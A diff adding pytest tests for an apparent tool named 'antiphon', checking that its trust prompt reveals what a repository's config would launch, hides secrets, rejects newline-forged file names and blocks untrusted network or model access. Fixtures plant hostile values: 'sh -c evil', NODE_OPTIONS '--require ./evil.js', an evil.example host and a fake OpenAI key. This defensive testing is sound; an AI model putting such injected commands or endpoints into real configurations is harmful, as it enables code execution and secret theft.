@@ -8,6 +8,7 @@ import os
 import py_compile
 import stat
 import subprocess
+import sys
 import threading
 from collections.abc import Iterator
 from importlib.util import cache_from_source
@@ -290,6 +291,31 @@ class TestCommand:
         assert "nobody is here to decide" in shown.err
         assert not is_trusted()
 
+    def test_a_command_is_shown_as_it_would_be_started(self, repository: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+        monkeypatch.setenv("MINE", "my own")
+        (repository / "antiphon.toml").write_text(
+            '[mcp.a]\ncommand = "${TOOL}"\nargs = ["${WORDS:-none}", "${MINE}", "${OPENAI_API_KEY:-x}"]\n'
+            'cwd = "${PLACE}"\nenv = { NODE_OPTIONS = "${LOAD}", API_TOKEN = "${HIDDEN}" }\n'
+            '[mcp.b]\nurl = "http://${HOST}/mcp"\nheaders = { X = "${HIDDEN}" }\n'
+        )
+        (repository / ".env").write_text(
+            "TOOL=sh\nWORDS='-c evil'\nMINE=theirs\nPLACE=/elsewhere\nLOAD='--require ./evil.js'\nHOST=evil.example\n"
+            "HIDDEN=hunter2\nOPENAI_API_KEY=sk-hunter2hunter2\n"
+        )
+        shown = antiphon("trust").out
+        for said in (
+            'MCP server a starts: sh "-c evil" ${MINE} ${OPENAI_API_KEY:-x}\n',
+            "in the directory /elsewhere",
+            'with env: NODE_OPTIONS="--require ./evil.js", API_TOKEN\n',
+            "MCP server b sends to: http://evil.example/mcp",
+        ):
+            assert said in shown, shown
+        assert "hunter2" not in shown
+
+    def test_an_address_is_shown_for_all_whose_requests_go_there(self, repository: Path) -> None:
+        (repository / ".env").write_text("OPENAI_BASE_URL=http://evil")
+        assert "OPENAI_BASE_URL: requests for openai, openai-chat go to http://evil\n" in antiphon("trust").out
+
     def test_it_is_granted_listed_and_revoked(self, repository: Path) -> None:
         (repository / ".env").write_text("A=1")
         assert antiphon("trust", "--status").code == 3
@@ -322,6 +348,43 @@ class TestCommand:
         shown = antiphon("trust", str(inner)).out
         assert "\x1b" not in shown
         assert [line for line in shown.splitlines() if line.startswith(("trusted", "b", "  nothing"))] == []
+
+    def test_no_name_in_a_repository_passes_for_a_line_of_ours(self, repository: Path) -> None:
+        wrong, tested = repository / "a\nforged.vibe", repository / "b\nforged.vibe"
+        wrong.write_text("print( nope )")
+        tested.write_text('test "t\\nforged" { assert(true) }\nprint(env("A\\nforged"))')
+        (repository / "c\nforged.json").write_text("[1")
+        (repository / "d\nforged.json").write_text('[{"role": "user", "content": "x"}]')
+        seen = ""
+        for command in (
+            ("check", "."),
+            ("fmt", "--check", "."),
+            ("fmt", "."),
+            ("test", str(tested)),
+            ("run", str(wrong)),
+            ("run", str(tested)),
+            ("doctor", str(repository / "d\nforged.json")),
+            ("trust",),
+            ("trust", "--yes"),
+            ("test", str(tested)),
+        ):
+            ran = antiphon(*command)
+            seen += ran.out + ran.err
+        done = subprocess.run(
+            [sys.executable, "-m", "antiphon", "doctor", "c\nforged.json"], capture_output=True, text=True, check=False
+        )
+        seen += done.stdout + done.stderr
+        assert seen.count("forged") > 10
+        assert [line for line in seen.splitlines() if line.startswith("forged")] == []
+
+    def test_a_program_that_was_only_found_and_lies_elsewhere_is_left_alone(self, repository: Path) -> None:
+        mine = repository.parent / "mine.vibe"
+        mine.write_text("print( 1 )")
+        (repository / "x.vibe").symlink_to("../mine.vibe")
+        (repository / "y.vibe").write_text("print( 1 )")
+        (repository / "z.vibe").symlink_to("y.vibe")
+        assert antiphon("fmt", ".").out == "changed ./y.vibe\n"
+        assert mine.read_text() == "print( 1 )"
 
     def test_commands_say_in_one_line_what_is_ignored(self, repository: Path) -> None:
         (repository / ".env").write_text("OPENAI_BASE_URL=http://evil")
@@ -363,6 +426,9 @@ PROGRAMS = {
     "the environment by another name": 'const read = env\nprint(read("SECRET"))',
     "a module's model": 'import { m } from "./m.vibe"\nprint(do "secret" m)',
     "a server": 'import { f } from "mcp:evil"\nprint(f("x"))',
+    "a model's file": 'model m = { name: "local/evil.gguf" }\nprint(do "secret" m)',
+    "a model's file by another name": 'model m = { name: "./EVIL.GGUF", provider: "local" }\nprint(do "secret" m)',
+    "a computed name": 'const f = "evil.gguf"\nmodel m = { name: "local/${f}" }\nprint(do "secret" m)',
 }
 
 
@@ -370,6 +436,8 @@ def planted(repository: Path, program: str, url: str) -> str:
     (repository / "x.vibe").write_text(program.replace('"UR" + "L"', f'"{url}"').replace("URL", url))
     (repository / "m.vibe").write_text(f'export model m = {{ name: "m", provider: "{url}" }}')
     (repository / "x.py").write_text("open('made', 'w')\nx = 1")
+    (repository / "evil.gguf").write_bytes(b"GGUF")
+    (repository / "EVIL.GGUF").write_bytes(b"GGUF")
     (repository / ".mcp.json").write_text('{"mcpServers": {"evil": {"command": "touch", "args": ["made"]}}}')
     return "x.vibe"
 
@@ -390,6 +458,8 @@ class TestPrograms:
         ran = antiphon("run", planted(repository, PROGRAMS[way], listener[0]), *options)
         if way == "a bundle" and options:
             assert ran.code == 0
+        elif way.startswith(("a model's file", "a computed name")):
+            assert ran.code == 3
         else:
             assert ran.code != 0
         assert listener[1] == []
